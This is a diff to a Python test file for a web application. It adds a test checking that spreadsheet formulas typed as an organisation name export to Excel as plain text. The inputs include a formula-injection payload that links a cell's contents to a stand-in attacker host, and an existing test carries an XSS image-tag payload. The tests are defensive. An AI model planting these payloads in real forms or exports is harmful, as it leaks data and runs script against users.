@@ -13,6 +13,7 @@ from cryptography import x509
 from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import rsa
 from cryptography.x509.oid import NameOID
+from openpyxl import load_workbook
 from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
 from pyhanko.sign import signers
 from pyhanko_certvalidator.registry import SimpleCertificateStore
@@ -24,6 +25,7 @@ from tests.conftest import zone_today
 from tests.test_dissolution_routes import as_user, state_of, two  # noqa: F401  (two: a fixture)
 from tests.test_renewal_routes import post, record  # noqa: F401  (the fixture)
 from tests.test_renewal_routes import version as record_version
+from tests.test_terms_export import terms  # noqa: F401  (a fixture)
 
 
 @pytest.mark.parametrize("seat_id, status, message", [
@@ -240,3 +242,19 @@ def test_markup_in_an_uploaded_files_name_is_shown_as_text(app, client):
     page = answer.get_data(as_text=True)
     assert answer.status_code == 422
     assert "文件“&lt;img src=x onerror=alert(1)&gt;.pdf”不是 PDF 文件" in page and "<img src=x" not in page
+
+
+# ---------------------------------------------------------------- the term lists as Excel
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A4,"点击查看")', "+1+1", "-1+1", "@SUM(1,1)"])
+def test_a_formula_typed_as_an_organisations_name_exports_as_text(app, terms, name):  # noqa: F811
+    """The name comes from an applicant's form; in the term list it is a string cell, which no spreadsheet runs."""
+    _, clients = terms
+    with app.app_context():
+        db.session.execute(sa.update(PartyOrg).values(name=name))
+        db.session.commit()
+    response = clients[Role.ZONE_APPROVER].get("/orgs/terms.xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(BytesIO(response.data)).active
+    cells = [row[0] for row in sheet.iter_rows(min_row=4)]
+    assert [(cell.value, cell.data_type) for cell in cells] == [(name, "s")] * 3
